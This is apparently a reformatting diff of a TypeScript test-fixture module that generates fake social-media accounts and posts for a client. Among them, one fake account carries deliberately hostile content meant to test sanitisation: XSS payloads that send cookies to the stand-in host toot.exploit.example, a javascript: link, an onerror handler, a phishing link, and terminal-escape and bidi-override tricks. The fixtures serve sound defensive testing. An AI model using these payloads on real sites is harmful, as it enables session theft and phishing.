@@ -7,9 +7,10 @@
 // against it: a field a platform does not publish is null on every account of that platform (never
 // 0, never absent), post fields are null where the spec says so, and a few records carry hostile
 // content (unsanitised HTML, terminal escapes, bidi overrides) that the client must neutralise.
-import { Random } from './random.js';
-import type { Author, PostItem, TranscriptSegment } from '../domain/schemas.js';
+
 import type { PlatformName } from '../domain/platforms.js';
+import type { Author, PostItem, TranscriptSegment } from '../domain/schemas.js';
+import { Random } from './random.js';
 
 export type Reserved = 'notfound' | 'blocked' | 'unavailable';
 
@@ -243,7 +244,9 @@ function profileOnly(platform: PlatformName, spec: ProfileSpec): Account {
   return { platform, author: author(platform, spec), posts: [] };
 }
 
-function postItem(fields: Pick<PostItem, 'id' | 'url' | 'text' | 'text_html' | 'thumbnail_url' | 'metrics'> & { at: number }): PostItem {
+function postItem(
+  fields: Pick<PostItem, 'id' | 'url' | 'text' | 'text_html' | 'thumbnail_url' | 'metrics'> & { at: number },
+): PostItem {
   return {
     id: fields.id,
     url: fields.url,
@@ -418,7 +421,8 @@ function threads(spec: ThreadsSpec): Account {
     author: who,
     posts: posts.items.map((item) => {
       const at = clock();
-      const media = (BigInt(at - INSTAGRAM_EPOCH) << 23n) | (BigInt(between(rng, 0, 8191)) << 10n) | BigInt(between(rng, 0, 1023));
+      const media =
+        (BigInt(at - INSTAGRAM_EPOCH) << 23n) | (BigInt(between(rng, 0, 8191)) << 10n) | BigInt(between(rng, 0, 1023));
       const isPhoto = typeof item !== 'string';
       const { likes, replies, reposts } = counters(rng, who.followers);
       return postItem({
@@ -606,14 +610,22 @@ const MASTODON: Account[] = [
       newest: '2026-11-20T11:26:00Z',
       everyHours: [18, 80],
       items: [
-        p(`A new release is out, with better moderation tools and faster search. Release notes: ${link('https://blog.joinmastodon.org/')}`),
+        p(
+          `A new release is out, with better moderation tools and faster search. Release notes: ${link('https://blog.joinmastodon.org/')}`,
+        ),
         p(`${mention('lena@fosstodon.org')} congrats on the release!`),
-        p('Thank you to everyone who supports the project on Patreon. You make it possible for a non-profit to build social media without ads.'),
-        p(`Decentralisation means no single company decides what your social network looks like. That&#39;s the point. ${hashtag('mastodon.social', 'fediverse')}`),
+        p(
+          'Thank you to everyone who supports the project on Patreon. You make it possible for a non-profit to build social media without ads.',
+        ),
+        p(
+          `Decentralisation means no single company decides what your social network looks like. That&#39;s the point. ${hashtag('mastodon.social', 'fediverse')}`,
+        ),
         p('Server admins: the new moderation dashboard is rolling out this week. Let us know what you think.'),
         p('Spent the weekend fixing small bugs in the web interface. Small things add up.'),
         p('Busy week with the team in Berlin. Lots of planning for next year. 🐘'),
-        p(`Reminder that you can follow hashtags! Search for one and press follow. ${hashtag('mastodon.social', 'tip')}`),
+        p(
+          `Reminder that you can follow hashtags! Search for one and press follow. ${hashtag('mastodon.social', 'tip')}`,
+        ),
       ],
     },
   }),
@@ -631,52 +643,102 @@ const MASTODON: Account[] = [
       newest: '2026-11-20T21:48:00Z',
       everyHours: [4, 20],
       items: [
-        p(`${mention('ben@hachyderm.io')} yes! The config moved to ~/.config/driftwood/ in 0.9, the old path still works for now`),
-        p(`Released driftwood 0.9.2: fixes the crash on empty log files (sorry!) and adds --since. ${link('https://github.com/lenafischer/driftwood/releases')} ${fosstodonTag('rust')} ${fosstodonTag('cli')}`),
+        p(
+          `${mention('ben@hachyderm.io')} yes! The config moved to ~/.config/driftwood/ in 0.9, the old path still works for now`,
+        ),
+        p(
+          `Released driftwood 0.9.2: fixes the crash on empty log files (sorry!) and adds --since. ${link('https://github.com/lenafischer/driftwood/releases')} ${fosstodonTag('rust')} ${fosstodonTag('cli')}`,
+        ),
         p('Bisecting a regression that only shows up on ARM Macs with a Turkish locale. Send coffee.'),
         p(`${mention('camille@piaille.fr')} merci ! The French translation ships in the next release 🇫🇷`),
-        p(`PSA: if your CLI prints colours, please respect NO_COLOR. It&#39;s one environment variable. ${link('https://no-color.org')}`),
-        p('Today&#39;s rabbit hole: why my terminal renders this emoji as two cells and that one as one. Unicode width tables are a lifestyle.'),
-        p('Test suite went from 4 minutes to 40 seconds by not spawning a process per test. Who knew.</p><p>(Everyone. Everyone knew.)'),
-        p(`New blog post: &quot;Things I learned maintaining a CLI for five years&quot; ${link('https://lenafischer.dev/blog/five-years')}`),
+        p(
+          `PSA: if your CLI prints colours, please respect NO_COLOR. It&#39;s one environment variable. ${link('https://no-color.org')}`,
+        ),
+        p(
+          'Today&#39;s rabbit hole: why my terminal renders this emoji as two cells and that one as one. Unicode width tables are a lifestyle.',
+        ),
+        p(
+          'Test suite went from 4 minutes to 40 seconds by not spawning a process per test. Who knew.</p><p>(Everyone. Everyone knew.)',
+        ),
+        p(
+          `New blog post: &quot;Things I learned maintaining a CLI for five years&quot; ${link('https://lenafischer.dev/blog/five-years')}`,
+        ),
         p(`${mention('Gargron@mastodon.social')} thanks for the boost! 🙏`),
-        p('Someone opened an issue titled &quot;it doesn&#39;t work&quot;. No description. Reproduced it anyway. It didn&#39;t work.'),
+        p(
+          'Someone opened an issue titled &quot;it doesn&#39;t work&quot;. No description. Reproduced it anyway. It didn&#39;t work.',
+        ),
         p('Writing docs is the best way to find out your API is weird.'),
         // A broken client let an event handler through; the instance relays it untouched.
-        p('Trying a new client that lets me use <b onclick="alert(&#39;xss&#39;)">bold</b>… apparently it also lets me put event handlers in posts. Reported it.'),
-        p(`Rust 2024 edition migration done for all three crates. cargo fix did 90% of the work. ${fosstodonTag('rust')}`),
-        p(`Talk accepted! I&#39;ll be speaking about terminal escape sequences and why your logs shouldn&#39;t be able to rename your terminal window 😅 ${fosstodonTag('security')}`),
-        p(`${mention('mia@social.coop')} the Windows build is on the releases page, the winget package is still stuck in review`),
+        p(
+          'Trying a new client that lets me use <b onclick="alert(&#39;xss&#39;)">bold</b>… apparently it also lets me put event handlers in posts. Reported it.',
+        ),
+        p(
+          `Rust 2024 edition migration done for all three crates. cargo fix did 90% of the work. ${fosstodonTag('rust')}`,
+        ),
+        p(
+          `Talk accepted! I&#39;ll be speaking about terminal escape sequences and why your logs shouldn&#39;t be able to rename your terminal window 😅 ${fosstodonTag('security')}`,
+        ),
+        p(
+          `${mention('mia@social.coop')} the Windows build is on the releases page, the winget package is still stuck in review`,
+        ),
         p('Sunday: no laptop, long walk along the Elbe, Franzbrötchen. Back to bugs tomorrow.'),
-        p('I maintain a tool with 9k stars and the most common feature request is still &quot;dark mode&quot; for a terminal app.'),
+        p(
+          'I maintain a tool with 9k stars and the most common feature request is still &quot;dark mode&quot; for a terminal app.',
+        ),
         p('Dependency audit: 214 crates in the lockfile. 11 are mine. Deep breath.'),
-        p(`Cut our binary size by 38% with opt-level = &quot;z&quot;, LTO &amp; dropping one regex crate. Details: ${link('https://lenafischer.dev/blog/smaller-binaries')}`),
+        p(
+          `Cut our binary size by 38% with opt-level = &quot;z&quot;, LTO &amp; dropping one regex crate. Details: ${link('https://lenafischer.dev/blog/smaller-binaries')}`,
+        ),
         p(`${mention('ben@hachyderm.io')} great idea, would you open an issue so it doesn&#39;t get lost?`),
-        p(`Fuzzing found a panic in the timestamp parser in under a minute. Fuzz your parsers, friends. ${fosstodonTag('rust')} ${fosstodonTag('fuzzing')}`),
+        p(
+          `Fuzzing found a panic in the timestamp parser in under a minute. Fuzz your parsers, friends. ${fosstodonTag('rust')} ${fosstodonTag('fuzzing')}`,
+        ),
         p('Reminder: your log files are untrusted input. Strip control characters before you print them.'),
-        p(`The Hamburg Rust meetup is back on Thursday, 19:00 at the usual place. Talks on embedded and async. ${fosstodonTag('rustlang')}`),
+        p(
+          `The Hamburg Rust meetup is back on Thursday, 19:00 at the usual place. Talks on embedded and async. ${fosstodonTag('rustlang')}`,
+        ),
         p('Finally understood Pin. Forgot it again by lunch.'),
-        p(`Good first issues labelled! 12 of them, all with mentoring notes. ${link('https://github.com/lenafischer/driftwood/issues')}`),
+        p(
+          `Good first issues labelled! 12 of them, all with mentoring notes. ${link('https://github.com/lenafischer/driftwood/issues')}`,
+        ),
         p(`${mention('jo@tech.lgbt')} haha yes, the tests pass on my machine™`),
         p('Hot take: a --json flag is the best API your CLI will ever have.'),
-        p('Switched CI to a matrix of Linux, macOS and Windows. Windows found two path bugs on the first run. Thank you, Windows.'),
+        p(
+          'Switched CI to a matrix of Linux, macOS and Windows. Windows found two path bugs on the first run. Thank you, Windows.',
+        ),
         p('Thank you to the 23 people who sponsor driftwood. It pays for the CI minutes and the occasional pizza 🍕'),
-        p('Went to a talk about accessibility in terminal apps. Screen readers and spinners do not mix. Adding --no-progress this week.'),
-        p(`Released driftwood 0.9.0 🎉<br>Live tail, regex filters, and it finally handles logs bigger than RAM. ${fosstodonTag('rust')} ${fosstodonTag('opensource')}`),
+        p(
+          'Went to a talk about accessibility in terminal apps. Screen readers and spinners do not mix. Adding --no-progress this week.',
+        ),
+        p(
+          `Released driftwood 0.9.0 🎉<br>Live tail, regex filters, and it finally handles logs bigger than RAM. ${fosstodonTag('rust')} ${fosstodonTag('opensource')}`,
+        ),
         p('Release notes take longer to write than the release. Every time.'),
-        p(`${mention('camille@piaille.fr')} oui, les accents marchent maintenant, c&#39;était un bug d&#39;encodage dans le parseur 🙈`),
+        p(
+          `${mention('camille@piaille.fr')} oui, les accents marchent maintenant, c&#39;était un bug d&#39;encodage dans le parseur 🙈`,
+        ),
         p('Spent the morning reviewing PRs from first-time contributors. Best part of the job.'),
-        p('TIL: less -R passes colour codes through but will happily pass other escapes too. Sanitise first, page second.'),
-        p('Three things that made driftwood faster this year: memory-mapped reads, a smarter line index, and deleting code.'),
+        p(
+          'TIL: less -R passes colour codes through but will happily pass other escapes too. Sanitise first, page second.',
+        ),
+        p(
+          'Three things that made driftwood faster this year: memory-mapped reads, a smarter line index, and deleting code.',
+        ),
         p('Autumn in Hamburg: nine hours of rain, one hour of the most beautiful light you&#39;ve ever seen.'),
         p('Ran a survey on how people use driftwood. 61% pipe it into grep. Which is… fine. Fine!'),
         p(`${mention('ben@hachyderm.io')} can you share the exact command? Happy to take a look`),
         p('Why do all my side projects become parsers eventually.'),
-        p(`Shipped Homebrew and Nix packages today, thanks to two lovely contributors. ${fosstodonTag('nix')} ${fosstodonTag('homebrew')}`),
+        p(
+          `Shipped Homebrew and Nix packages today, thanks to two lovely contributors. ${fosstodonTag('nix')} ${fosstodonTag('homebrew')}`,
+        ),
         p('Moved my blog off the static site generator I wrote myself. Growth.'),
         p('Reading &quot;Crafting Interpreters&quot; again. Still the best programming book I own.'),
-        p('Pairing session with an Outreachy intern today. She found a bug in code I wrote in 2020 within ten minutes.'),
-        p(`Hello fosstodon! I&#39;m Lena, I write Rust, maintain driftwood (a log viewer for the terminal) and take too many photos of the Elbe. ${fosstodonTag('introduction')}`),
+        p(
+          'Pairing session with an Outreachy intern today. She found a bug in code I wrote in 2020 within ten minutes.',
+        ),
+        p(
+          `Hello fosstodon! I&#39;m Lena, I write Rust, maintain driftwood (a log viewer for the terminal) and take too many photos of the Elbe. ${fosstodonTag('introduction')}`,
+        ),
       ],
     },
   }),
@@ -693,15 +755,21 @@ const MASTODON: Account[] = [
       everyHours: [10, 60],
       items: [
         p('Premier gel ce matin sur les quais de Saône ❄️ Les platanes sont magnifiques.'),
-        p('J&#39;ai enfin réussi ma baguette maison : croûte croustillante, mie alvéolée. 12 heures de pousse au frigo. 🥖'),
+        p(
+          'J&#39;ai enfin réussi ma baguette maison : croûte croustillante, mie alvéolée. 12 heures de pousse au frigo. 🥖',
+        ),
         p(`${mention('lena@fosstodon.org')} merci pour le correctif, driftwood affiche enfin « é » correctement !`),
         p(`Vélotaf sous la pluie : 14 km, deux cafés, zéro regret. ${hashtag('piaille.fr', 'vélo')}`),
         p('Lecture du moment : « L&#39;Anomalie » d&#39;Hervé Le Tellier. Impossible de m&#39;arrêter.'),
         p('Quelqu&#39;un connaît un bon atelier de réparation de vélos vers la Croix-Rousse ?'),
-        p(`Les logiciels libres, c&#39;est aussi une question de souveraineté. ${hashtag('piaille.fr', 'logiciellibre')}`),
+        p(
+          `Les logiciels libres, c&#39;est aussi une question de souveraineté. ${hashtag('piaille.fr', 'logiciellibre')}`,
+        ),
         p('Marché du dimanche : potimarron, comté affiné 24 mois et clémentines de Corse. La belle vie.'),
         p('Coucher de soleil sur Fourvière depuis le pont Bonaparte. Pas de filtre, promis.'),
-        p(`Bonjour Piaille ! Développeuse web à Lyon, passionnée de vélo et de pain au levain. ${hashtag('piaille.fr', 'présentation')}`),
+        p(
+          `Bonjour Piaille ! Développeuse web à Lyon, passionnée de vélo et de pain au levain. ${hashtag('piaille.fr', 'présentation')}`,
+        ),
       ],
     },
   }),
@@ -730,9 +798,13 @@ const MASTODON: Account[] = [
       newest: '2026-11-20T14:02:00Z',
       everyHours: [1, 6],
       items: [
-        p(`${mention('Gargron@mastodon.social')} is this the real admin? Log in here to check: <a href="https://toot.exploit.example/login" onmouseover="alert(1)">mastodon.social/login</a>`),
+        p(
+          `${mention('Gargron@mastodon.social')} is this the real admin? Log in here to check: <a href="https://toot.exploit.example/login" onmouseover="alert(1)">mastodon.social/login</a>`,
+        ),
         p(`System notice: ${OSC8_LINK} to keep your account. ${RED}Final warning${RESET} ${RLO}fdp.exe`),
-        p('<span onclick="document.location=&#39;https://toot.exploit.example/?c=&#39;+document.cookie">Tap anywhere to see who viewed your profile</span>'),
+        p(
+          '<span onclick="document.location=&#39;https://toot.exploit.example/?c=&#39;+document.cookie">Tap anywhere to see who viewed your profile</span>',
+        ),
         p('Claim your free verification badge: <a href="javascript:alert(document.domain)">verify now</a>'),
         p('Cute cat pic <img src=x onerror=alert(1)>'),
         `${p('Hello fediverse! 👋')}<script>fetch('https://toot.exploit.example/c?'+document.cookie)</script>`,
@@ -1242,7 +1314,9 @@ const ACCOUNTS: Record<PlatformName, readonly Account[]> = {
 };
 
 const byHandle = new Map<string, Account>(
-  Object.values(ACCOUNTS).flatMap((list) => list.map((a) => [`${a.platform}:${a.author.handle?.toLowerCase()}`, a] as const)),
+  Object.values(ACCOUNTS).flatMap((list) =>
+    list.map((a) => [`${a.platform}:${a.author.handle?.toLowerCase()}`, a] as const),
+  ),
 );
 
 /** Case-insensitive lookup by handle (as normalised by platforms.ts normaliseHandle). */
@@ -1323,7 +1397,11 @@ const VIDEOS: readonly Video[] = [
       [0.0, 2.4, 'Three terminal tricks I use every day.'],
       [2.4, 7.0, 'One: control R searches your shell history. Stop pressing the up arrow forty times.'],
       [7.0, 11.3, 'Two: pipe anything into less dash capital R to keep the colours.'],
-      [11.3, 17.6, "Three: never cat a log file from the internet straight into your terminal. Escape sequences can do weird things."],
+      [
+        11.3,
+        17.6,
+        'Three: never cat a log file from the internet straight into your terminal. Escape sequences can do weird things.',
+      ],
       [17.6, 19.0, 'Follow for more, I guess?'],
     ),
   ),
